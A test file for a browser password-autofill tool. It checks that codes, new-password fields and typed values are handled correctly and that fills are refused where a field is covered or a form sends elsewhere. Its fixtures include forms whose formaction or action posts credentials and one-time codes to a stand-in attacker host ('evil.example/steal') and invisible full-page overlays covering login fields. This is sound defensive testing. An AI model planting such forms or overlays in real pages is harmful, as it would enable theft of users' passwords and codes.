/**
 * In real Chromium: what a field asks for (code, new or current password, another
 * identifier), layers painted over a field whatever their pointer-events, where a form
 * really sends (formaction/formmethod), the password-type watch, and honest `submitted`.
 * Detection through the test page script; fills through the shipped page scripts.
 */
import type { Browser, Page } from 'playwright';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { html, launchBrowser, serve, type Site, shippedPageScripts, testPageScript } from '../testing/harness.js';

interface Found {
  username: string | null;
  password: string | null;
  totp: string[] | null;
}
interface Reply {
  ok: boolean;
  filled?: string[];
  submitted?: boolean;
  code?: string;
  message?: string;
}

const USER = 'alice@example.com';
const PASS = 'correct horse battery staple ✓';

let browser: Browser;
let page: Page;
let site: Site;
let probeScript: string;
let shipped: string;

beforeAll(async () => {
  [browser, site, probeScript, shipped] = await Promise.all([launchBrowser(), serve(), testPageScript(), shippedPageScripts()]);
  page = await browser.newPage({ viewport: { width: 1000, height: 700 } });
});
afterAll(async () => {
  await browser?.close();
  await site?.close();
});

async function found(body: string): Promise<Found> {
  await page.goto(site.origin + site.add(html(body)));
  await page.addScriptTag({ content: probeScript });
  return page.evaluate(() => (globalThis as unknown as { __bfTest: { found(): Found } }).__bfTest.found());
}

async function open(body: string): Promise<void> {
  await page.goto(site.origin + site.add(html(body)));
  await page.addScriptTag({ content: shipped });
}

function detect(): Promise<Record<string, unknown>> {
  return page.evaluate(() => (globalThis as unknown as { __blindfillDetect(): Record<string, unknown> }).__blindfillDetect());
}

function fill(values: Record<string, string>, submit = false, origins = [site.origin]): Promise<Reply> {
  return page.evaluate((a) => (globalThis as unknown as { __blindfillFill(x: unknown): Promise<Reply> }).__blindfillFill(a), { origins, values, submit });
}

const vals = (...ids: string[]) => page.evaluate((xs) => xs.map((id) => (document.getElementById(id) as HTMLInputElement).value), ids);

describe('a masked field that asks for a code is never given the password', () => {
  for (const [name, field] of [
    ['<label for>', `<label for=c>Verification code</label><input id=c type=password name=f3 autocomplete=off inputmode=numeric>`],
    ['aria-label', `<input id=c type=password name=f3 aria-label="Hardware token code" autocomplete=off>`],
    ['aria-labelledby', `<span id=l>Enter the code from your security key</span><input id=c type=password name=f3 aria-labelledby=l>`],
    ['placeholder', `<input id=c type=password name=f3 placeholder="6-digit code">`],
    ['name', `<input id=c type=password name=otp_response>`],
  ] as const) {
    it(`labelled by ${name}: a code field, not a password field`, async () => {
      expect(await found(`<form action=/x method=post>${field}<button>Verify</button></form>`)).toEqual({ username: null, password: null, totp: ['c'] });
    });
  }

  it('fill_credential values fill nothing there; a one-time code does', async () => {
    await open(`<form action=/x method=post><label for=c>Verification code</label><input id=c type=password name=f3 autocomplete=off inputmode=numeric><button>Verify</button></form>`);
    expect(await detect()).toMatchObject({ fields: ['totp'] });
    expect(await fill({ username: USER, password: PASS })).toEqual({ ok: true, filled: [], submitted: false });
    expect(await vals('c')).toEqual(['']);
    expect(await fill({ totp: '123456' })).toEqual({ ok: true, filled: ['totp'], submitted: false });
    expect(await vals('c')).toEqual(['123456']);
  });
});

describe('new-password fields never get the stored password', () => {
  it('current, new, confirm: the current field only', async () => {
    await open(`<form action=/x method=post><label for=a>Current password</label><input id=a type=password>
      <label for=b>New password</label><input id=b type=password><label for=c>Confirm new password</label><input id=c type=password><button>Change password</button></form>`);
    expect(await fill({ username: USER, password: PASS })).toEqual({ ok: true, filled: ['password'], submitted: false });
    expect(await vals('a', 'b', 'c')).toEqual([PASS, '', '']);
  });

  for (const [name, body] of [
    ['labels', `<label for=b>New password</label><input id=b type=password><label for=c>Confirm password</label><input id=c type=password>`],
    ['autocomplete', `<input id=b type=password name=p1 autocomplete=new-password><input id=c type=password name=p2 autocomplete=new-password>`],
    ['aria-label', `<input id=b type=password aria-label="Password"><input id=c type=password aria-label="Re-enter password">`],
    ['placeholder', `<input id=b type=password placeholder="Choose a password"><input id=c type=password placeholder="Repeat it">`],
    ['a later step: "New password" alone', `<input id=b type=password name=newPassword><input id=c type=hidden>`],
  ] as const) {
    it(`new + confirm alone (${name}): refused with the reason, nothing filled`, async () => {
      await open(`<form action=/x method=post><input type=email id=e name=email>${body}<button>Save</button></form>`);
      expect(await detect()).toMatchObject({ fields: [], why: 'new-password' });
      expect(await fill({ username: USER, password: PASS })).toEqual({ ok: true, filled: [], submitted: false });
      expect(await vals('e', 'b')).toEqual(['', '']);
    });
  }

  it('a sign-in form whose one password field says autocomplete=new-password by mistake still fills', async () => {
    await open(`<form action=/x method=post><label for=u>Email</label><input id=u type=email><label for=p>Password</label><input id=p type=password autocomplete=new-password><button>Sign in</button></form>`);
    expect(await fill({ username: USER, password: PASS })).toEqual({ ok: true, filled: ['username', 'password'], submitted: false });
  });
});

describe('fields that are not the login are left alone', () => {
  it('"New email" on an update-email page keeps what was typed; the confirming password is filled', async () => {
    await open(`<form action=/x method=post><label for=ne>New email</label><input id=ne type=email><label for=pw>Password</label><input id=pw type=password><button>Update email</button></form>`);
    await page.fill('#ne', 'new@example.org');
    expect(await fill({ username: USER, password: PASS })).toEqual({ ok: true, filled: ['password'], submitted: false });
    expect(await vals('ne', 'pw')).toEqual(['new@example.org', PASS]);
  });

  it('a typed e-mail in a form that does not sign in is not overwritten; in a sign-in form it is', async () => {
    await open(`<form action=/x method=post><label for=e>Email</label><input id=e type=email><label for=pw>Password</label><input id=pw type=password><button>Save</button></form>`);
    await page.fill('#e', 'typed@example.org');
    expect(await fill({ username: USER, password: PASS })).toEqual({ ok: true, filled: ['password'], submitted: false });
    expect(await vals('e')).toEqual(['typed@example.org']);
    await open(`<form action=/x method=post><label for=e>Email</label><input id=e type=email><label for=pw>Password</label><input id=pw type=password><button>Sign in</button></form>`);
    await page.fill('#e', 'typed@example.org');
    expect(await fill({ username: USER, password: PASS })).toEqual({ ok: true, filled: ['username', 'password'], submitted: false });
    expect(await vals('e')).toEqual([USER]);
  });
});

describe('layers over a field count whatever their pointer-events', () => {
  const FIELD = `<form style="position:relative" action=/x method=post><input id=u name=username style="width:200px;height:30px"><input id=p type=password style="width:200px;height:30px"><button>Sign in</button></form>`;
  for (const [name, cover] of [
    ['an opaque div with pointer-events:none', `<div style="position:fixed;inset:0;background:#fff;pointer-events:none;z-index:10"></div>`],
    ['the same with an inline !important', `<div style="position:fixed;inset:0;background:#fff;pointer-events:none !important;z-index:10"></div>`],
    ['a body::after pseudo-element', `<style>body::after{content:"";position:fixed;inset:0;background:rgb(250,250,250);pointer-events:none;z-index:10}</style>`],
    ['an image', `<img style="position:fixed;left:0;top:0;width:100vw;height:100vh;pointer-events:none;z-index:10" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`],
    ['a cover inside an open shadow root', `<div id=h style="position:fixed;inset:0;z-index:10;pointer-events:none"></div><script>document.getElementById('h').attachShadow({mode:'open'}).innerHTML='<div style="position:absolute;inset:0;background:#123;pointer-events:none"></div>'</script>`],
    ['a blurring backdrop-filter', `<div style="position:fixed;inset:0;backdrop-filter:blur(12px);pointer-events:none;z-index:10"></div>`],
  ] as const) {
    it(`${name}: refused`, async () => {
      expect(await found(`${FIELD}${cover}`)).toEqual({ username: null, password: null, totp: null });
    });
  }

  it('transparent layers (an outline drawn over the field, a floating label) do not cover', async () => {
    const r = await found(`<form action=/x method=post><div style="position:relative"><input id=u name=username style="width:200px;height:30px">
      <span style="position:absolute;inset:0;border:1px solid #888;border-radius:4px;pointer-events:none"></span>
      <span style="position:absolute;left:8px;top:6px;pointer-events:none;color:#666">Username</span></div>
      <input id=p type=password><div style="position:fixed;inset:0;background:rgba(0,0,0,0.1);pointer-events:none"></div><button>Sign in</button></form>`);
    expect(r).toEqual({ username: 'u', password: 'p', totp: null });
  });

  it('a cover below the field (z-index) does not count', async () => {
    const r = await found(`<form action=/x method=post style="position:relative;z-index:2"><input id=u name=username><input id=p type=password><button>Sign in</button></form>
      <div style="position:fixed;inset:0;background:#fff;pointer-events:none;z-index:1"></div>`);
    expect(r).toEqual({ username: 'u', password: 'p', totp: null });
  });

  it('the check leaves the page as it was (styles, style attributes)', async () => {
    await found(`${FIELD}<div id=c style="position:fixed;inset:0;background:#fff;pointer-events:none !important;z-index:10"></div>`);
    expect(await page.evaluate(() => [document.getElementById('c')!.getAttribute('style'), document.adoptedStyleSheets.length, document.querySelectorAll('style').length])).toEqual([
      'position:fixed;inset:0;background:#fff;pointer-events:none !important;z-index:10',
      0,
      0,
    ]);
  });
});

describe('where the form really sends', () => {
  it('a submit button with formaction to another origin: ORIGIN_MISMATCH, nothing set', async () => {
    await open(`<form action=/login method=post><input id=u name=username><input id=p type=password><button formaction="https://evil.example/steal">Sign in</button></form>`);
    const r = await fill({ username: USER, password: PASS });
    expect(r).toMatchObject({ ok: false, code: 'ORIGIN_MISMATCH' });
    expect(r.message).toContain('https://evil.example');
    expect(await vals('u', 'p')).toEqual(['', '']);
  });

  it('a second submit button elsewhere (form=) with a foreign formaction also counts', async () => {
    await open(`<form id=f action=/login method=post><input id=u name=username><input id=p type=password><button>Sign in</button></form>
      <button form=f formaction="https://evil.example/">Continue</button>`);
    expect(await fill({ username: USER, password: PASS })).toMatchObject({ ok: false, code: 'ORIGIN_MISMATCH' });
  });

  it('formmethod=get would put the password in the URL: NO_FILLABLE_FIELD; the same form with POST fills', async () => {
    await open(`<form action=/login method=post><input id=u name=username><input id=p type=password><button formmethod=get>Sign in</button></form>`);
    expect(await fill({ username: USER, password: PASS })).toMatchObject({ ok: false, code: 'NO_FILLABLE_FIELD' });
    expect(await vals('u', 'p')).toEqual(['', '']);
    await open(`<form action=/login method=post><input id=u name=username><input id=p type=password><button formmethod=post formaction=/login2>Sign in</button></form>`);
    expect(await fill({ username: USER, password: PASS })).toEqual({ ok: true, filled: ['username', 'password'], submitted: false });
  });

  it('a one-time code into a form posting to another origin: ORIGIN_MISMATCH', async () => {
    await open(`<form action="https://evil.example/otp" method=post><input id=c name=otp autocomplete=one-time-code><button>Verify</button></form>`);
    expect(await fill({ totp: '123456' })).toMatchObject({ ok: false, code: 'ORIGIN_MISMATCH' });
    expect(await vals('c')).toEqual(['']);
  });
});

describe('the password-type watch', () => {
  it("the site's own Show toggle, long after the fill, empties the field before anything is shown", async () => {
    await open(`<form action=/x method=post><input id=u name=username><input id=p type=password><button type=button id=show>Show</button><button>Sign in</button></form>
      <script>document.getElementById('show').onclick = () => { const p = document.getElementById('p'); p.type = 'text'; window.__seen = p.value; };</script>`);
    await page.clock.install();
    expect(await fill({ username: USER, password: PASS })).toEqual({ ok: true, filled: ['username', 'password'], submitted: false });
    await page.clock.runFor(60_000);
    await page.click('#show');
    await page.waitForFunction(() => (document.getElementById('p') as HTMLInputElement).value === '');
    expect(await page.evaluate(() => (document.getElementById('p') as HTMLInputElement).type)).toBe('text');
  });

  it('a value a person typed after the fill is theirs: not emptied', async () => {
    await open(`<form action=/x method=post><input id=u name=username><input id=p type=password><button>Sign in</button></form>`);
    expect(await fill({ username: USER, password: PASS })).toMatchObject({ ok: true });
    await page.fill('#p', 'typed by a person');
    await page.evaluate(() => {
      (document.getElementById('p') as HTMLInputElement).type = 'text';
    });
    await page.evaluate(() => new Promise((r) => setTimeout(r, 50)));
    expect(await vals('p')).toEqual(['typed by a person']);
  });
});

describe('submitted means sent', () => {
  const recorder = `<script>window.__sub = 0; document.addEventListener('submit', (e) => { e.preventDefault(); __sub++; }, true);</script>`;

  it('a click on Sign in blocked by a required field left empty: submitted false', async () => {
    await open(`<form action=/x method=post><input id=u name=username><input id=p type=password><label><input type=checkbox required> I agree</label><button id=go>Sign in</button></form>${recorder}`);
    expect(await fill({ username: USER, password: PASS }, true)).toEqual({ ok: true, filled: ['username', 'password'], submitted: false });
    expect(await page.evaluate(() => (window as unknown as { __sub: number }).__sub)).toBe(0);
  });

  it('an empty required text field (a captcha answer) blocks it too', async () => {
    await open(`<form action=/x method=post><input id=u name=username><input id=p type=password><input name=captcha required placeholder="Type the letters"><button>Log in</button></form>${recorder}`);
    expect(await fill({ username: USER, password: PASS }, true)).toMatchObject({ ok: true, submitted: false });
  });

  it('a valid form: submitted true (control)', async () => {
    await open(`<form action=/x method=post><input id=u name=username><input id=p type=password><button>Sign in</button></form>${recorder}`);
    expect(await fill({ username: USER, password: PASS }, true)).toEqual({ ok: true, filled: ['username', 'password'], submitted: true });
    expect(await page.evaluate(() => (window as unknown as { __sub: number }).__sub)).toBe(1);
  });

  it("a script button whose handler runs the form's validation, which fails: submitted false", async () => {
    await open(`<div><input id=u name=username><input id=p type=password><input id=t required form=f><div role=button id=go>Sign in</div></div><form id=f></form>
      <script>document.getElementById('go').onclick = () => { if (document.getElementById('f').reportValidity()) window.__sent = 1; };</script>`);
    expect(await fill({ username: USER, password: PASS }, true)).toMatchObject({ ok: true, submitted: false });
  });
});
